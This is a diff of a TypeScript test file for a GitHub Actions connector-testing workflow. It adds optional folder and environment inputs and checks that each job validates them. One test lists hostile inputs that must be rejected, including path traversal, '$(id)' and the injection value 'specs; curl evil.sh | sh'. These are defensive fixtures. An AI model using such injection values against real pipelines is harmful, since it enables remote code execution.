@@ -32,6 +32,7 @@ import {
   parseTestExclusions,
   TEST_EXCLUDE_FILE,
 } from '../../src/domain/target-repo/ci-gates.js';
+import { DEFAULT_LAYOUT } from '../../src/domain/target-repo/layout.js';
 
 const WORKFLOW_URL = new URL('../../.github/workflows/lakeflow-connector-tests.yml', import.meta.url);
 const PYTHON = process.env.PYTHON ?? 'python3';
@@ -70,6 +71,7 @@ const Input = z.object({
   type: z.string(),
   required: z.boolean(),
   options: z.array(z.string()).optional(),
+  default: z.string().optional(),
 });
 const Workflow = z.object({
   name: z.string(),
@@ -86,6 +88,24 @@ const jobs = Object.entries(workflow.jobs);
 const liveJobs = jobs.filter(([, job]) => job.environment !== undefined);
 const offlineJobs = jobs.filter(([, job]) => job.environment === undefined);
 const allSteps = jobs.flatMap(([jobId, job]) => job.steps.map((step) => ({ jobId, step })));
+
+/** GitHub's most `workflow_dispatch` inputs per workflow (10 until late 2025, 25 since): the lower bound. */
+const MAX_DISPATCH_INPUTS = 10;
+
+/**
+ * A job's `env:` as GitHub evaluates it for a dispatch with `given` inputs (the others at their
+ * defaults): each `${{ inputs.x }}` replaced by the input's value; any other expression is left out.
+ */
+function jobEnv(job: Job, given: Record<string, string>): Record<string, string> {
+  const inputs = workflow.on.workflow_dispatch.inputs;
+  const value = (name: string) => given[name] ?? inputs[name]?.default ?? '';
+  return Object.fromEntries(
+    Object.entries(job.env ?? {}).map(([name, raw]) => [
+      name,
+      raw.replace(/\$\{\{\s*inputs\.(\w+)\s*\}\}/g, (_, input: string) => value(input)),
+    ]),
+  );
+}
 
 function stepsWithId(job: Job, id: string): Step[] {
   return job.steps.filter((step) => step.id === id);
@@ -109,11 +129,61 @@ describe('the connector workflow', () => {
   it('is dispatched with source, mode (the four CI modes) and run_key', () => {
     const inputs = workflow.on.workflow_dispatch.inputs;
 
-    expect(Object.keys(inputs).sort()).toEqual(['mode', 'run_key', 'source']);
+    expect(Object.keys(inputs).filter((name) => inputs[name]?.required)).toEqual([
+      'source',
+      'mode',
+      'run_key',
+    ]);
     expect(inputs.source).toMatchObject({ type: 'string', required: true });
     expect(inputs.run_key).toMatchObject({ type: 'string', required: true });
     expect(inputs.mode).toMatchObject({ type: 'choice', required: true });
     expect(inputs.mode?.options).toEqual(CiMode.options);
+  });
+
+  it("takes the environment and the three connector folders as optional inputs whose defaults are the upstream ones, within GitHub's input limit", () => {
+    const inputs = workflow.on.workflow_dispatch.inputs;
+
+    expect(Object.keys(inputs).sort()).toEqual(
+      ['environment', 'mode', 'run_key', 'simulator_specs_dir', 'source', 'sources_dir', 'tests_dir'].sort(),
+    );
+    expect(Object.keys(inputs).length).toBeLessThanOrEqual(MAX_DISPATCH_INPUTS);
+    expect(inputs.environment).toMatchObject({
+      type: 'string',
+      required: false,
+      default: DEFAULT_REPO_CONFIG.environment,
+    });
+    expect(inputs.sources_dir).toMatchObject({
+      type: 'string',
+      required: false,
+      default: DEFAULT_LAYOUT.sources,
+    });
+    expect(inputs.tests_dir).toMatchObject({
+      type: 'string',
+      required: false,
+      default: DEFAULT_LAYOUT.tests,
+    });
+    expect(inputs.simulator_specs_dir).toMatchObject({
+      type: 'string',
+      required: false,
+      default: DEFAULT_LAYOUT.simulatorSpecs,
+    });
+    expect(DEFAULT_REPO_CONFIG.paths).toEqual(DEFAULT_LAYOUT);
+  });
+
+  it('hands every job the folders and the environment through env, the connector folders built from them', () => {
+    for (const [jobId, job] of jobs) {
+      expect(job.env, jobId).toMatchObject({
+        SOURCES_DIR: expr('inputs.sources_dir'),
+        TESTS_DIR: expr('inputs.tests_dir'),
+        SIMULATOR_SPECS_DIR: expr('inputs.simulator_specs_dir'),
+        LAKEFLOW_ENVIRONMENT: expr('inputs.environment'),
+        SOURCE_DIR: `${expr('inputs.sources_dir')}/${expr('inputs.source')}`,
+        CONNECTOR_TESTS_DIR: `${expr('inputs.tests_dir')}/${expr('inputs.source')}`,
+      });
+      const scripts = job.steps.map((step) => step.run ?? '').join('\n');
+      expect(scripts, jobId).not.toContain(DEFAULT_LAYOUT.tests);
+      expect(scripts, jobId).not.toContain(DEFAULT_LAYOUT.sources);
+    }
   });
 
   it("names each run so that the name ends with the bot's run key", () => {
@@ -158,8 +228,11 @@ describe('the connector workflow', () => {
 
     expect(offline.if).toMatch(/inputs\.mode == 'simulate' \|\| inputs\.mode == 'package'/);
     expect(live.if).toMatch(/inputs\.mode == 'live' \|\| inputs\.mode == 'auth'/);
-    expect(live.environment).toBe('lakeflow-live');
-    expect(live.environment).toBe(DEFAULT_REPO_CONFIG.environment);
+    expect(live.environment).toBe(expr('inputs.environment'));
+    expect(live.name).toContain(expr('inputs.environment'));
+    const guard = live.steps.find((step) => step.run?.includes('secret_guard.py" <<'))?.run ?? '';
+    expect(guard).toContain('LAKEFLOW_ENVIRONMENT');
+    expect(guard).not.toContain('lakeflow-live');
   });
 
   it('passes inputs to scripts only through env, never as an expression inside a script', () => {
@@ -182,9 +255,13 @@ describe('the connector workflow', () => {
   });
 
   it('rejects hostile or oversized inputs in the validation step with a clear message', () => {
-    const script = (offlineJobs[0] as [string, Job])[1].steps[0]?.run ?? '';
+    const offline = (offlineJobs[0] as [string, Job])[1];
+    const script = offline.steps[0]?.run ?? '';
+    const defaults = jobEnv(offline, {});
     const validate = (env: Record<string, string>) =>
-      spawnSync('bash', ['-eo', 'pipefail', '-c', script], { env: { PATH: process.env.PATH, ...env } });
+      spawnSync('bash', ['-eo', 'pipefail', '-c', script], {
+        env: { PATH: process.env.PATH, ...defaults, ...env },
+      });
     const ok = {
       SOURCE: 'google_sheets',
       MODE: 'package',
@@ -204,6 +281,58 @@ describe('the connector workflow', () => {
       const result = validate({ ...ok, ...bad });
       expect(result.status, JSON.stringify(bad)).toBe(1);
       expect(result.stdout.toString()).toMatch(/::error title=Invalid input::(source|mode|run_key) must/);
+    }
+  });
+
+  it('accepts the default and custom folders and environments, and rejects hostile ones, in every job', () => {
+    for (const [jobId, job] of jobs) {
+      const script = job.steps[0]?.run ?? '';
+      const validate = (given: Record<string, string>) =>
+        spawnSync('bash', ['-eo', 'pipefail', '-c', script], {
+          env: {
+            PATH: process.env.PATH,
+            ...jobEnv(job, {
+              source: 'google_sheets',
+              mode: 'package',
+              run_key: 'acme-connectors-42-b1-test-a2-simulate',
+              ...given,
+            }),
+          },
+        });
+
+      expect(validate({}).status, jobId).toBe(0);
+      expect(
+        validate({
+          environment: 'connector live',
+          sources_dir: 'connectors/sources',
+          tests_dir: 'connectors/tests',
+          simulator_specs_dir: 'connectors/sim-specs.v2',
+        }).status,
+        jobId,
+      ).toBe(0);
+      const hostile: Array<Record<string, string>> = [
+        { sources_dir: '../outside' },
+        { sources_dir: '/etc' },
+        { tests_dir: 'tests/../..' },
+        { tests_dir: 'tests/' },
+        { tests_dir: '.github/workflows' },
+        { simulator_specs_dir: 'specs; curl evil.sh | sh' },
+        { simulator_specs_dir: '$(id)' },
+        { sources_dir: 'a'.repeat(201) },
+        { sources_dir: '' },
+        { environment: 'live\nx' },
+        { environment: ' leading' },
+        { environment: 'two  spaces' },
+        { environment: '' },
+        { environment: 'e'.repeat(256) },
+      ];
+      for (const bad of hostile) {
+        const result = validate(bad);
+        expect(result.status, `${jobId} ${JSON.stringify(bad)}`).toBe(1);
+        expect(result.stdout.toString()).toMatch(
+          /::error title=Invalid input::(sources_dir|tests_dir|simulator_specs_dir|environment) must/,
+        );
+      }
     }
   });
 
@@ -581,6 +710,39 @@ describe("the pylint step, run with bash against upstream's facts in ci-gates.ts
     expect(readArgs(join(repo.cwd, 'args'))).toEqual([...PYLINT_FLAGS, ...files]);
   });
 
+  it('lints the connector under the sources_dir input', () => {
+    const cwd = mkdtempSync(join(tmpdir(), 'lakeflow-pylint-'));
+    dirs.push(cwd);
+    const sourceDir = 'connectors/sources/alpha';
+    for (const file of [
+      'requirements/pylint.txt',
+      `${sourceDir}/alpha.py`,
+      'src/databricks/labs/community_connector/sources/alpha/alpha.py',
+    ]) {
+      mkdirSync(join(cwd, file, '..'), { recursive: true });
+      writeFileSync(join(cwd, file), '\n');
+    }
+    writeFileSync(join(cwd, '.gitignore'), 'results/\nbin/\nargs\n');
+    const git = (...args: string[]) => spawnSync('git', args, { cwd });
+    git('init', '-q');
+    git('add', '.');
+    git('-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-qm', 'base');
+    mkdirSync(join(cwd, 'results/logs'), { recursive: true });
+    standIn(cwd, 'pip', 'false');
+    standIn(cwd, 'pylint');
+    const env = jobEnv(offline, {
+      source: 'alpha',
+      mode: 'simulate',
+      run_key: 'k',
+      sources_dir: 'connectors/sources',
+    });
+
+    const result = runScript(cwd, script, { ...env, ARGS_OUT: join(cwd, 'args') });
+
+    expect(result.status, result.stderr).toBe(0);
+    expect(readArgs(join(cwd, 'args'))).toEqual([...PYLINT_FLAGS, `${sourceDir}/alpha.py`]);
+  });
+
   it('passes without running pylint on a connector upstream does not lint, and fails on one with no module', () => {
     const skipped = checkout('hubspot', ['hubspot.py']);
     const empty = checkout('beta', ['README.md']);
@@ -604,8 +766,11 @@ describe('the pytest steps, run with bash against parseTestExclusions', () => {
     for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
   });
 
-  /** The arguments each job's pytest step passes to `python -m pytest` with `exclusions` as the file. */
-  function pytestArgs(exclusions: string | null) {
+  /**
+   * The arguments each job's pytest step passes to `python -m pytest` with `exclusions` as the file,
+   * the job's env evaluated for a dispatch with `given` inputs.
+   */
+  function pytestArgs(exclusions: string | null, given: Record<string, string> = {}) {
     return jobs.map(([jobId, job]) => {
       const cwd = mkdtempSync(join(tmpdir(), 'lakeflow-pytest-'));
       dirs.push(cwd);
@@ -616,22 +781,17 @@ describe('the pytest steps, run with bash against parseTestExclusions', () => {
       }
       standIn(cwd, 'python', '[ "$1" = -m ]');
       const script = stepsWithId(job, 'pytest')[0]?.run ?? '';
-      const result = runScript(cwd, script, { SOURCE, ARGS_OUT: join(cwd, 'args') });
+      const env = jobEnv(job, { source: SOURCE, mode: 'simulate', run_key: 'k', ...given });
+      const result = runScript(cwd, script, { ...env, ARGS_OUT: join(cwd, 'args') });
       expect(result.status, `${jobId}: ${result.stderr}`).toBe(0);
       return { jobId, args: readArgs(join(cwd, 'args')) };
     });
   }
 
-  function expected(ignores: string[]) {
-    return [
-      '-m',
-      'pytest',
-      `tests/unit/sources/${SOURCE}/`,
-      ...ignores,
-      '-v',
-      '-p',
-      'no:cacheprovider',
-    ].concat(`--junitxml=results/${RESULTS_FILES.junit}`);
+  function expected(ignores: string[], tests = DEFAULT_LAYOUT.tests) {
+    return ['-m', 'pytest', `${tests}/${SOURCE}/`, ...ignores, '-v', '-p', 'no:cacheprovider'].concat(
+      `--junitxml=results/${RESULTS_FILES.junit}`,
+    );
   }
 
   const lines = [
@@ -659,6 +819,20 @@ describe('the pytest steps, run with bash against parseTestExclusions', () => {
       '--ignore=tests/unit/sources/alpha/test_last_line.py',
     ]);
     for (const { jobId, args } of pytestArgs(text)) expect(args, jobId).toEqual(expected(ignores));
+  });
+
+  it('runs the tests of the tests_dir input, and ignores the exclusions under it', () => {
+    const layout = { ...DEFAULT_LAYOUT, tests: 'connectors/tests' };
+    const text = [
+      'connectors/tests/alpha/test_needs_credentials.py',
+      'tests/unit/sources/alpha/test_upstream_path.py',
+      'connectors/tests/beta/test_other.py',
+    ].join('\n');
+    const ignores = buildPytestIgnoreArgs(SOURCE, parseTestExclusions(text), layout);
+
+    expect(ignores).toEqual(['--ignore=connectors/tests/alpha/test_needs_credentials.py']);
+    for (const { jobId, args } of pytestArgs(text, { tests_dir: layout.tests }))
+      expect(args, jobId).toEqual(expected(ignores, layout.tests));
   });
 
   it('ignores nothing without the file or with only comments', () => {
